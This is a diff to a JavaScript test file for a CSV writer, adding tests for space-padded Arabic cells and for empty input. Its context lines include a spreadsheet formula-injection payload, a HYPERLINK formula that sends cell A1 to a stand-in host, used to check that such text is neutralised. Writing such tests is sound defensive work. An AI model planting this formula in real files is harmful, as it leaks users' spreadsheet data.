@@ -17,6 +17,18 @@ describe('CSV text', () => {
     );
   });
 
+  it('quotes a cell that begins or ends with a space, so a spreadsheet keeps the space', () => {
+    const csv = csvText([[' حي السلم', 'بيروت ', 3]]);
+    expect(csv).toBe('\uFEFF" حي السلم","بيروت ",3\r\n');
+    expect(parseCsv<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data).toEqual([
+      [' حي السلم', 'بيروت ', '3'],
+    ]);
+  });
+
+  it('writes nothing but the byte-order mark and a line end for no rows', () => {
+    expect(csvText([])).toBe('\uFEFF\r\n');
+  });
+
   it('writes text a spreadsheet would run as data, numbers as numbers, read back by a real CSV parser', () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
     const csv = csvText([
